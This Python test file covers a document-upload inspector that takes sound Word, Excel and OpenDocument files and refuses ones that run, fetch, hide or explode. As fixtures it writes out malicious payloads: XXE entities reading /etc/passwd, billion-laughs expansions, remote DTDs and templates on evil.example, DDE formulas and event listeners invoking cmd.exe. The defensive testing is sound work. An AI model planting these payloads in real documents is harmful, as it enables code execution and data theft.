"""Office documents that people send: sound ones are taken; what runs, fetches, hides or explodes is refused."""

import os

import pytest

from directory.inspection import Refused
from tests import samples
from tests.samples import XML, refusal, taken

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ODF_KINDS = ["odt", "ods", "odp"]


# --- Kinds --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("main_type", "kind"),
    [
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "XLSX"),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "DOTX"),
        ("application/vnd.ms-word.other+xml", "ZIP"),
    ],
)
def test_a_package_of_another_kind_inside_is_refused(main_type, kind):
    assert taken(samples.ooxml(), "a.docx")
    assert f"of the kind {kind}." in refusal(samples.ooxml(main_type=main_type), "a.docx")


@pytest.mark.parametrize("name", ["text-template", "spreadsheet", "graphics", "text "])
def test_an_opendocument_of_another_kind_inside_is_refused(name):
    mimetype = f"application/vnd.oasis.opendocument.{name}"
    found = samples.odf(mimetype=mimetype)
    if name.strip() == "text":
        assert taken(found, "a.odt")
    else:
        assert "of the kind O" in refusal(found, "a.odt")


def test_a_package_without_its_main_part_is_refused():
    for lost in ("word/document.xml", "_rels/.rels"):
        entries = {name: content for name, content in samples.ooxml_entries().items() if name != lost}
        assert "damaged" in refusal(samples.package(entries.items()), "a.docx")
    twice = samples.relationships(("officeDocument", "word/document.xml"), ("officeDocument", "b.xml"))
    assert "damaged" in refusal(samples.ooxml(more={"_rels/.rels": twice, "b.xml": "<b/>"}), "a.docx")
    odt = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}
    assert "damaged" in refusal(samples.package(odt.items()), "a.odt")


def test_documents_with_a_password_are_refused_and_told_from_old_ones():
    protected = OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600
    assert "password" in refusal(protected, "a.docx")
    assert "of the kind DOC, XLS, PPT" in refusal(OLE, "a.docx")
    data = "<manifest:encryption-data/>"
    assert "password" in refusal(samples.odf(manifest=data, more={"styles.xml": os.urandom(99)}), "a.odt")
    content = bytearray(samples.ooxml())
    for place in (content.index(b"PK\x03\x04") + 6, content.index(b"PK\x01\x02") + 8):
        content[place] |= 1
    assert "password" in refusal(bytes(content), "a.docx")


# --- Macros, objects, connections -----------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        samples.ooxml(more={"word/vbaProject.bin": b"x"}),
        samples.ooxml(more={"WORD/VBAPROJECT.BIN": b"x"}),
        samples.ooxml(more={"word/vbaData.xml": "<x/>"}),
        samples.ooxml(more={"word/activeX/activeX1.xml": "<x/>"}),
        samples.ooxml(more={"xl/macrosheets/sheet1.xml": "<x/>"}),
        samples.ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        samples.ooxml(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        samples.ooxml(
            relations=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin")]
        ),
        samples.ooxml(relations=[("control", "x.xml")]),
    ],
)
def test_macros_and_controls_of_ooxml_are_refused(content):
    assert "macros" in refusal(content, "a.docx")


@pytest.mark.parametrize(
    "options",
    [
        {"more": {"Basic/Standard/Module1.xml": "<x/>"}},
        {"more": {"Scripts/python/a.py": "print()"}},
        {"more": {"basic/script-lc.xml": "<x/>"}},
        {"body": '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'},
        {"body": '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>'},
        {"body": '<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>'},
        {"body": '<presentation:event-listener presentation:action="exec&#117;te" xlink:href="cmd.exe"/>'},
        {"body": '<t:script xmlns:t="urn:oasis:names:tc:opendocument:xmlns:text:1.0"/>'},
        {"body": "<draw:applet/>"},
    ],
)
@pytest.mark.parametrize("kind", ODF_KINDS)
def test_macros_and_scripts_of_opendocument_are_refused(kind, options):
    assert "macros" in refusal(samples.odf(kind, **options), f"a.{kind}")


@pytest.mark.parametrize("kind", ODF_KINDS)
def test_what_ordinary_opendocument_files_hold_is_taken(kind):
    body = (
        "<office:scripts/>"
        '<presentation:event-listener presentation:action="next-page"/>'
        '<text:a xlink:href="https://example.org/">enlace</text:a>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:image xlink:href="https://example.org/1.png"/>'
        '<draw:object xlink:href="./Object 1"/>'
        '<draw:plugin xlink:href="../v.mp4" draw:mime-type="application/vnd.sun.star.media"/>'
        '<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'
    )
    more = {
        "Pictures/1.png": samples.picture(),
        "Object 1/content.xml": "<a/>",
        "Basic/": "",
        "layout-cache": b"\1\2",
    }
    doctype = '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
    more["settings.xml"] = f"{XML}{doctype}<a/>"
    assert taken(samples.odf(kind, body=body, more=more), f"a.{kind}").content is None


HYPERLINK = ("hyperlink", "https://example.org/?a=1&amp;b=2", "External")


@pytest.mark.parametrize(
    "row",
    [
        HYPERLINK,
        ("hyperlink", "mailto:awa@example.org", "External"),
        ("image", "https://example.org/logo.png", "External"),
        ("image", "file:///C:\\Users\\Awa\\logo.png", "External"),
        ("image", "file://localhost/Users/awa/logo.png", "External"),
        ("video", "https://example.org/v", "External"),
        ("attachedTemplate", "file:///C:\\Users\\Awa\\Templates\\informe.dotx", "External"),
        ("externalLinkPath", "file:///\\\\oficina\\datos\\presupuesto.xlsx", "External"),
        ("image", "media/image1.png"),
        ("package", "embeddings/Hoja1.xlsx"),
    ],
)
def test_ordinary_relations_are_taken(row):
    assert taken(samples.ooxml(relations=[HYPERLINK, row]), "a.docx").content is None
    assert taken(samples.ooxml("pptx", relations=[row]), "a.pptx").content is None


@pytest.mark.parametrize(
    ("row", "words"),
    [
        (("attachedTemplate", "https://evil.example/t.dotm", "External"), "another place"),
        (("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "External"), "another place"),
        (("attachedTemplate", "file://evil.example/t.dotm", "External"), "another place"),
        (("attachedTemplate", "file:///%5C%5Cevil.example\\t.dotm", "External"), "another place"),
        (("oleObject", "mhtml:https://evil.example/!x", "External"), "another place"),
        (("frame", "https://evil.example/f.html", "External"), "another place"),
        (("subDocument", "https://evil.example/d.docx", "External"), "another place"),
        (("image", "\\\\evil.example\\i.png", "External"), "another place"),
        (("image", "file://evil.example/i.png", "external"), "another place"),
        (("unheard-of", "https://evil.example/", "External"), "another place"),
        (("oleObject", "embeddings/oleObject1.bin"), "embedded"),
        (("aFChunk", "chunk.mht"), "embedded"),
    ],
)
def test_relations_that_are_followed_at_once_are_refused(row, words):
    assert words in refusal(samples.ooxml(relations=[HYPERLINK, row]), "a.docx")
    hidden = samples.relationships(row)
    assert words in refusal(samples.ooxml(more={"word/_rels/header1.xml.RELS": hidden}), "a.docx")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ('<draw:floating-frame xlink:href="https://evil.example/"/>', "another place"),
        ('<draw:object xlink:href="https://evil.example/o.odt"/>', "another place"),
        ('<text:section-source xlink:href="https://evil.example/s.odt"/>', "another place"),
        ('<draw:image xlink:href="smb://evil.example/i.png"/>', "another place"),
        ('<draw:image xlink:href="file://evil.example/i.png"/>', "another place"),
        ('<text:dde-connection-decl office:dde-application="cmd"/>', "another place"),
        ('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c x&quot;)"/>', "another place"),
        ('<draw:object-ole xlink:href="./Object 1"/>', "embedded"),
        ('<draw:plugin xlink:href="x.swf" draw:mime-type="application/x-shockwave-flash"/>', "embedded"),
    ],
)
def test_elements_of_opendocument_that_fetch_or_embed_are_refused(body, words):
    assert words in refusal(samples.odf(body=body), "a.odt")


@pytest.mark.parametrize(
    "content",
    [
        OLE,
        b"MZ\x90\0" + b"\0" * 99,
        b"\x7fELF" + b"\0" * 99,
        b"#!/bin/sh\n",
        b"\x1f\x8b\x08" + b"\0" * 99,
        b"Rar!\x1a\x07\1\0",
        b"7z\xbc\xaf\x27\x1c",
        rb"{\rtf1}",
        samples.package([("a.txt", "a")]),
        samples.ooxml(),
    ],
)
def test_foreign_files_inside_are_refused_whatever_their_name(content):
    for name in ("word/media/image1.png", "word/embeddings/oleObject1.bin", "customXml/item1.xml"):
        assert "embedded" in refusal(samples.ooxml(more={name: content}), "a.docx")
        assert "embedded" in refusal(samples.odf(more={name: content}), "a.odt")
    picture = {"word/media/image1.png": samples.picture(), "word/media/image2.emf": b"\1\0\0\0" * 99}
    assert taken(samples.ooxml(more=picture), "a.docx")


@pytest.mark.parametrize("name", ["word/a.exe", "word/media/a.JS", "a.lnk", "word/afchunk.mht"])
def test_programs_and_pages_inside_are_refused_by_name_too(name):
    assert "embedded" in refusal(samples.ooxml(more={name: "x"}), "a.docx")


def test_the_workbook_of_a_chart_is_taken_and_checked_by_the_same_rules():
    def with_workbook(content, name="word/embeddings/Hoja1.xlsx"):
        return samples.ooxml(more={name: content})

    assert taken(with_workbook(samples.xlsx()), "a.docx").content is None
    assert "of the kind DOCX" in refusal(with_workbook(samples.ooxml()), "a.docx")
    assert "embedded" in refusal(with_workbook(samples.xlsx(), "word/embeddings/Hoja1.xlsm"), "a.docx")
    macros = samples.ooxml(more={"word/vbaProject.bin": b"x"})
    assert "macros" in refusal(with_workbook(macros, "word/embeddings/a.docx"), "a.docx")
    deeper = with_workbook(samples.xlsx())
    assert "embedded" in refusal(with_workbook(deeper, "word/embeddings/a.docx"), "a.docx")
    assert "before its beginning" in refusal(with_workbook(b"not a workbook" * 9), "a.docx")


# --- XML ----------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 30))
DECLARATIONS = {
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l29;</a>',
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>',
    "external type": '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd"><a/>',
    "public type": '<!DOCTYPE a PUBLIC "-//Evil//DTD//EN" "https://evil.example/x.dtd"><a/>',
    "hidden in a known type": '<!DOCTYPE a PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY x "y">]><a/>',
    "empty type": "<!DOCTYPE a><a/>",
}


@pytest.mark.parametrize("declared", DECLARATIONS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_declarations_in_xml_are_refused_in_every_part(declared, encoding):
    def part(text):
        head = f'<?xml version="1.0" encoding="{encoding.removesuffix("-sig")}"?>\n<!-- remark -->'
        return (head + text).encode(encoding)

    for name in ("word/document.xml", "word/other.bin", "customXml/item1.xml", "word/media/a.svg"):
        assert taken(samples.ooxml(more={name: part("<a>1</a>")}), "a.docx")
        assert "declares XML entities" in refusal(
            samples.ooxml(more={name: part(DECLARATIONS[declared])}), "a.docx"
        )
    for name in ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"):
        assert "declares XML entities" in refusal(
            samples.ooxml(more={name: part(DECLARATIONS[declared])}), "a.docx"
        )
    for name in ("content.xml", "META-INF/manifest.xml", "Object 1/content.xml"):
        assert taken(samples.odf(more={name: part("<a>1</a>")}), "a.odt")
        assert "declares XML entities" in refusal(
            samples.odf(more={name: part(DECLARATIONS[declared])}), "a.odt"
        )


def test_the_document_types_that_old_programs_write_are_taken():
    svg = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'
    assert taken(samples.ooxml(more={"word/media/a.svg": XML + svg}), "a.docx")


@pytest.mark.parametrize("spoilt", ["no xml", "<a", "<!-- " + "x" * 200_000 + " --><a/>"])
def test_xml_that_cannot_be_read_is_refused(spoilt):
    assert taken(samples.ooxml(more={"word/styles.xml": XML + "<a/>"}), "a.docx")
    assert "damaged" in refusal(samples.ooxml(more={"word/styles.xml": spoilt}), "a.docx")
    assert "damaged" in refusal(samples.ooxml(more={"word/_rels/document.xml.rels": spoilt}), "a.docx")


def test_xml_with_endless_elements_or_attributes_is_refused(monkeypatch):
    row = "<table:table-cell/>"
    monkeypatch.setattr("directory.inspection.archives.MOST_ELEMENTS", 10_000)
    assert taken(samples.odf("ods", body=row * 9_000), "a.ods")
    assert "too large" in refusal(samples.odf("ods", body=row * 10_000), "a.ods")
    monkeypatch.setattr("directory.inspection.archives.MOST_XML_BYTES", 100_000)
    for length, sound in ((30_000, True), (60_000, False)):
        content = samples.odf(body=f'<text:p text:style-name="{os.urandom(length).hex()}"/>')
        if sound:
            assert taken(content, "a.odt")
        else:
            assert "too large" in refusal(content, "a.odt")


@pytest.mark.parametrize("name", ["a.docx", "a.xlsx", "a.odt", "a.pdf"])
def test_no_garbled_document_raises_anything_but_a_refusal(name):
    sound = next(content for known, content in samples.accepted().items() if known.endswith(name[1:]))
    outcomes = set()
    for place in range(4, len(sound), 11):
        for change in (0xFF, 0x01):
            spoilt = sound[:place] + bytes([sound[place] ^ change]) + sound[place + 1 :]
            try:
                outcomes.add(type(taken(spoilt, name)).__name__)
            except Refused:
                outcomes.add("Refused")
    assert outcomes == {"Inspected", "Refused"}
